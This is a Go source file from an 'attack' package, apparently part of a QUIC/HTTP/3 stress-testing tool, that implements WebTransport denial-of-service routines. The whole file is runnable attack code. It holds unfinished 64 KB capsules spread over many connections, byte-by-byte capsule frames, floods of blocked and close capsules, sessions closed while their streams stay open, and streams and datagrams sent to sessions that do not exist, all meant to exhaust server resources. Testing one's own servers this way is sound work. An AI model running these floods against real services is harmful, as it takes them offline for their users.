package attack

import (
	"strings"

	"github.com/godwit-quic/godwit/internal/h3"
	"github.com/godwit-quic/godwit/internal/wire"
)

var sessionRows = []Row{
	{Name: "wt-capsule-parts", Class: "WT", run: wtCapsuleParts,
		Does: "begins a datagram capsule of 64 KB in 8 sessions of each of 20 connections, and finishes none"},
	{Name: "wt-capsule-bytes", Class: "WT", run: wtCapsuleBytes,
		Does: "sends capsules byte by byte, each in a DATA frame of its own"},
	{Name: "wt-limits", Class: "WT", run: wtLimits,
		Does: "says in a session that it is blocked, and that it should end, again and again"},
	{Name: "wt-open-close", Class: "WT", run: wtOpenClose,
		Does: "opens sessions and closes each with a capsule in the same packet, but leaves their streams open"},
	{Name: "wt-early-streams", Class: "WT pre-session / datagram flood", run: wtEarly(func(b []byte, s *stream, session wire.StreamID) []byte {
		b = s.append(b, wtStream(wtUniStream, session), false)
		return wire.AppendResetStream(b, wire.ResetStream{ID: s.id, FinalSize: s.off})
	}), Does: "opens streams of sessions to come, and resets them"},
	{Name: "wt-early-datagrams", Class: "WT pre-session / datagram flood", run: frames(func(c *conn, b []byte, i int) []byte {
		for n := uint64(i) * 100; len(b) < maxPayload-16; n++ {
			b = wire.AppendDatagram(b, wire.Datagram{Data: append(h3.AppendQuarterID(nil, 4000+n%1000*4), 'x')})
		}
		return b
	}), Does: "fills packets with datagrams of a byte for a thousand sessions to come"},
	{Name: "wt-half-headers", Class: "WT", run: wtEarly(func(b []byte, s *stream, session wire.StreamID) []byte {
		b = s.append(b, []byte{0x40, wtUniStream, 0x80}, false)
		return wire.AppendResetStream(b, wire.ResetStream{ID: s.id, FinalSize: s.off})
	}), Does: "opens streams of sessions and resets them within the session's ID"},
}

func wtCapsuleParts(a *attacker) error {
	conns, err := a.dialMany(20, dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	part := []byte(strings.Repeat("x", 8_000))
	head := h3.AppendFrameHeader(nil, h3.FrameType(h3.CapsuleDatagram), 65_000)
	a.begun()
	var streams []*stream
	for _, c := range conns {
		c.window = lossy
		for range 8 {
			if s, ok := c.open(false); ok {
				s.write(append(connect(), frame(h3.FrameData, head)...), false)
				streams = append(streams, s)
			}
		}
	}
	a.repeat(2_000, func(i int) bool {
		s := streams[i%len(streams)]
		if i/len(streams) >= 8 {
			return false
		}
		if s.c.alive() && s.room(len(part)+10) {
			s.write(frame(h3.FrameData, part), false)
		}
		return true
	})
	a.notef("%d sessions, %d KB; %s", len(streams), a.sock.bytes>>10, ends(conns))
	return nil
}

func wtCapsuleBytes(a *attacker) error {
	s, err := a.session(dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	capsule := h3.AppendCapsule(nil, capsuleUnknownToWT, make([]byte, 20))
	datagram := h3.AppendCapsule(nil, h3.CapsuleDatagram, make([]byte, 200))
	var b []byte
	for _, x := range append(capsule, datagram...) {
		b = append(b, frame(h3.FrameData, []byte{x})...)
	}
	b = b[:len(b):len(b)]
	a.pour(50_000, s, b)
	return nil
}

func wtLimits(a *attacker) error {
	s, err := a.session(dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	var b []byte
	for i := uint64(0); len(b) < maxPayload-streamHeader-60; i++ {
		for _, t := range []h3.CapsuleType{0x190b4d41, 0x190b4d43, 0x190b4d44} {
			b = h3.AppendCapsule(b, t, wire.AppendVarint(nil, i))
		}
		b = h3.AppendCapsule(b, 0x78ae, nil)
	}
	b = frame(h3.FrameData, b)
	a.pour(50_000, s, b)
	return nil
}

func wtOpenClose(a *attacker) error {
	conns, err := a.dialMany(4, dialing{settings: wtSettings})
	if err != nil {
		return err
	}
	closing := frame(h3.FrameData, h3.AppendCapsule(nil, 0x2843, []byte{0, 0, 0, 1}))
	a.begun()
	n := 0
	a.eachConn(5_000, conns, func(c *conn) bool {
		if s, ok := c.open(false); ok {
			n++
			s.write(append(connect(), closing...), false)
		}
		return true
	})
	a.notef("%d sessions; %s", n, ends(conns))
	return nil
}

// wtEarly opens unidirectional streams for sessions that are not there.
func wtEarly(write func(b []byte, s *stream, session wire.StreamID) []byte) func(a *attacker) error {
	return func(a *attacker) error {
		c, err := a.dial(dialing{settings: wtSettings})
		if err != nil {
			return err
		}
		n := uint64(0)
		a.openFull(c, true, maxPayload-60, func(b []byte, x *stream) []byte {
			n++
			return write(b, x, wire.NewStreamID(wire.ClientSide, false, 50+n%50))
		})
		return nil
	}
}
